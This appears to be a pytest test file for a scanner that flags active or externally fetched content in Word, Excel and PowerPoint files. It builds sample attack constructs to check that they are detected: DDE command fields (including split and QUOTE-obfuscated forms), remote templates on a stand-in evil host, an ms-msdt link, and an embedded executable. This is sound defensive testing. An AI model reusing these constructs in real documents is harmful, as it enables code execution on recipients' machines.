"""Office Open XML: what is active, embedded or fetched from outside, by part name, type, relationship and content."""

from __future__ import annotations

import struct

import pytest

from tests.inspection.content.building import (
    CONTENT_TYPES,
    OFFICE,
    RELATIONSHIPS,
    WORD,
    compound,
    kinds,
    look,
    ole10native,
    vba_project,
    word,
    zipped,
)
from zoneguard.model.flows import Certainty


def relationship(kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return RELATIONSHIPS.format(f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>')


def run(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def test_plain_document_is_inspected() -> None:
    seen = look(word(body="<w:p><w:r><w:t>本文 DDEAUTO</w:t></w:r></w:p>"), "a.docx")
    assert seen.media_type.endswith("wordprocessingml.document")
    assert seen.hazards == ()
    assert seen.certainty is Certainty.INSPECTED


def test_macros_with_their_modules() -> None:
    seen = look(word({"word/vbaProject.bin": compound(vba_project())}), "a.docm")
    (hazard,) = seen.hazards
    assert (hazard.kind, hazard.where) == ("vba-macro", "word/vbaProject.bin!VBA")
    assert "runs by itself: AutoOpen" in hazard.detail
    assert seen.media_type == "application/vnd.ms-word.document.macroEnabled.12"


def test_macros_by_name_alone() -> None:
    seen = look(word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}), "a.docm")
    assert [(h.kind, h.where) for h in seen.hazards] == [("vba-macro", "word/vbaProject.bin")]


def test_macros_under_another_name() -> None:
    override = '<Override PartName="/word/picture.jpg" ContentType="application/vnd.ms-office.vbaProject"/>'
    assert "vba-macro" in kinds(look(word({"word/picture.jpg": b"x"}, types=override), "a.docm"))
    assert kinds(look(word({"word/picture.jpg": compound(vba_project())}), "a.docm"))[0] == "vba-macro"


@pytest.mark.parametrize(
    ("part", "kind"),
    [
        ("xl/macrosheets/sheet1.xml", "xlm-macro"),
        ("xl/macrosheets/sheet1.bin", "xlm-macro"),
        ("word/activeX/activeX1.xml", "activex"),
        ("xl/connections.xml", "external-connection"),
        ("word/webextensions/webextension1.xml", "add-in"),
    ],
)
def test_parts_that_are_hazards_by_their_place(part: str, kind: str) -> None:
    seen = look(zipped({"[Content_Types].xml": CONTENT_TYPES.format(""), part: "<x/>"}), "a.xlsm")
    assert [(h.kind, h.where) for h in seen.hazards] == [(kind, part)]


def test_types_by_ending_and_by_relationship_count_as_well() -> None:
    default = '<Default Extension="dat" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    seen = look(zipped({"[Content_Types].xml": CONTENT_TYPES.format(default), "xl/sheets/s.dat": "<x/>"}), "a.xlsx")
    assert [(h.kind, h.where) for h in seen.hazards] == [("xlm-macro", "xl/sheets/s.dat")]
    for kind, found in (("xlMacrosheet", "xlm-macro"), ("vbaProject", "vba-macro"), ("control", "activex")):
        seen = look(word({"word/_rels/document.xml.rels": relationship(kind, "other/a.dat", external=False)}), "a.docx")
        assert [(h.kind, h.where) for h in seen.hazards] == [(found, "word/other/a.dat")]


def test_one_object_named_typed_and_related_is_one_hazard() -> None:
    declared = "application/vnd.openxmlformats-officedocument.oleObject"
    override = f'<Override PartName="/word/embeddings/a.bin" ContentType="{declared}"/>'
    rels = {"word/_rels/document.xml.rels": relationship("oleObject", "embeddings/a.bin", external=False)}
    seen = look(word({"word/embeddings/a.bin": compound({"CONTENTS": bytes(80)}), **rels}, types=override), "a.docx")
    assert [(h.kind, h.where) for h in seen.hazards] == [("embedded-object", "word/embeddings/a.bin")]


def test_the_list_of_types_is_found_in_any_letters() -> None:
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    seen = look(zipped({"[content_types].XML": CONTENT_TYPES.format(""), "xl/x.xml": link}), "a.xlsx")
    assert kinds(seen) == ["dde"]


@pytest.mark.parametrize("name", ["word/document.xml", "word/footer.dat", "odd"])
def test_fields_are_found_in_parts_of_any_name(name: str) -> None:
    part = f'<w:document {WORD}><w:fldSimple w:instr="DDEAUTO cmd"/></w:document>'
    assert kinds(look(word({name: part}), "a.docx")) == ["dde"]


@pytest.mark.parametrize(("action", "found"), [("program", ["program-action"]), ("macro?name=x", ["program-action"]),
                                               ("hlinkshowjump?jump=nextslide", []), ("hlinksldjump", [])])  # fmt: skip
def test_actions_of_slides(action: str, found: list[str]) -> None:
    click = f'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://{action}"/></p:sld>'
    types = CONTENT_TYPES.format("")
    assert kinds(look(zipped({"[Content_Types].xml": types, "ppt/slides/slide1.xml": click}), "a.pptx")) == found


def test_formulas_that_fetch() -> None:
    for formula, found in (("_xlfn.WEBSERVICE(&quot;http://x/&quot;)", ["external-relationship"]), ("SUM(A1)", [])):
        sheet = f"<worksheet><f>{formula}</f></worksheet>"
        parts = {"[Content_Types].xml": CONTENT_TYPES.format(""), "xl/worksheets/sheet1.xml": sheet}
        assert kinds(look(zipped(parts), "a.xlsx")) == found


@pytest.mark.parametrize(
    "kind", ["image", "frame", "oleObject", "subDocument", "externalLinkPath", "video", "mailMergeSource"]
)
def test_whatever_is_fetched_from_outside_is_said(kind: str) -> None:
    seen = look(word({"word/_rels/document.xml.rels": relationship(kind, "http://x.example/a")}), "a.docx")
    assert [(h.kind, h.where) for h in seen.hazards] == [("external-relationship", "word/_rels/document.xml.rels")]


def test_template_and_other_parts_from_outside() -> None:
    seen = look(
        word({"word/_rels/settings.xml.rels": relationship("attachedTemplate", "http://evil.example/t.dotm")}), "a.docx"
    )
    assert [(h.kind, h.detail) for h in seen.hazards] == [("external-template", "http://evil.example/t.dotm")]
    seen = look(
        word({"word/_rels/document.xml.rels": relationship("oleObject", "http://evil.example/x.html!")}), "a.docx"
    )
    assert kinds(seen) == ["external-relationship"]


def test_hyperlinks_are_no_hazard_unless_they_run_something() -> None:
    assert (
        kinds(
            look(word({"word/_rels/document.xml.rels": relationship("hyperlink", "https://www.example.jp/")}), "a.docx")
        )
        == []
    )
    seen = look(
        word({"word/_rels/document.xml.rels": relationship("hyperlink", "ms-msdt:/id PCWDiagnostic")}), "a.docx"
    )
    assert kinds(seen) == ["external-relationship"]


@pytest.mark.parametrize(
    "body",
    [
        '<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>',
        char("begin") + run(" DDE") + run("AUTO cmd ") + char("separate") + char("end"),
        char("begin") + run("D") + run("D") + run("E cmd") + char("end"),
        char("begin") + char("begin") + run(" QUOTE 68 68 69 65 85 84 79 ") + char("end") + run(" cmd") + char("end"),
    ],
)
def test_dde_fields_however_they_are_cut(body: str) -> None:
    assert kinds(look(word(body=f"<w:p>{body}</w:p>"), "a.docx")) == ["dde"]


def test_dde_in_a_utf_16_part() -> None:
    part = f'<?xml version="1.0" encoding="utf-16"?><w:ftr {WORD}><w:fldSimple w:instr="DDE cmd"/></w:ftr>'.encode(
        "utf-16"
    )
    assert kinds(look(word({"word/footer1.xml": part}), "a.docx")) == ["dde"]


def test_excel_dde_link() -> None:
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    seen = look(
        zipped({"[Content_Types].xml": CONTENT_TYPES.format(""), "xl/externalLinks/externalLink1.xml": link}), "a.xlsx"
    )
    assert [(h.kind, h.detail) for h in seen.hazards] == [("dde", "DDE cmd|/c calc")]


@pytest.mark.parametrize(("kind", "found"), [(0, []), (1, ["dde"]), (2, ["external-relationship"])])
def test_links_of_a_binary_workbook(kind: int, found: list[str]) -> None:
    texts = b"".join(struct.pack("<I", len(t)) + t.encode("utf-16-le") for t in ("cmd", "/c calc"))
    body = struct.pack("<H", kind) + texts
    part = b"\x01\x00" + b"\xe8\x02" + bytes((len(body),)) + body + b"\xe9\x02\x00"
    types = CONTENT_TYPES.format("")
    seen = look(zipped({"[Content_Types].xml": types, "xl/externalLinks/externalLink1.bin": part}), "a.xlsb")
    assert kinds(seen) == found
    assert all("/c calc" in h.detail and h.where == "xl/externalLinks/externalLink1.bin" for h in seen.hazards)


def test_embedded_package_is_opened() -> None:
    program = b"MZ\x90\0" + bytes(300)
    inner = compound({"\x01Ole10Native": ole10native(b"invoice.exe", program)})
    seen = look(word({"word/embeddings/oleObject1.bin": inner}), "a.docx")
    assert kinds(seen) == ["embedded-object", "executable"]
    assert [h.where for h in seen.hazards if h.kind == "executable"] == ["word/embeddings/oleObject1.bin!invoice.exe"]


def test_embedded_document_with_macros_is_opened() -> None:
    inner = zipped({"[Content_Types].xml": CONTENT_TYPES.format(""), "xl/vbaProject.bin": compound(vba_project())})
    seen = look(word({"word/embeddings/Sheet1.xlsm": inner}), "a.docx")
    assert kinds(seen) == ["embedded-object", "vba-macro"]


def test_alternative_format_chunk_is_opened() -> None:
    extra = {
        "word/_rels/document.xml.rels": relationship("aFChunk", "chunk.html", external=False),
        "word/chunk.html": "<script>x</script>",
    }
    assert kinds(look(word(extra), "a.docx")) == ["embedded-object", "active-html"]


def test_printer_settings_and_fonts_do_not_make_it_uncertain() -> None:
    seen = look(
        word({"word/printerSettings/printerSettings1.bin": bytes(100), "word/fonts/font1.odttf": bytes(100)}), "a.docx"
    )
    assert (seen.hazards, seen.certainty) == ((), Certainty.INSPECTED)


def test_part_with_entities_or_errors_is_partial() -> None:
    laughs = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:p>&b;<w:instrText/></w:p>'
    for part in (laughs, "<w:p><w:instrText>"):
        seen = look(word({"word/header1.xml": part}), "a.docx")
        assert seen.certainty is Certainty.PARTIAL


def test_cut_document_says_what_it_found_and_is_partial() -> None:
    whole = word({"word/vbaProject.bin": compound(vba_project()), "word/z.xml": "x" * 3000})
    seen = look(whole[: whole.rindex(b"PK\x01\x02") - 300], "a.docm", whole=False)
    assert "vba-macro" in kinds(seen)
    assert seen.certainty is Certainty.PARTIAL
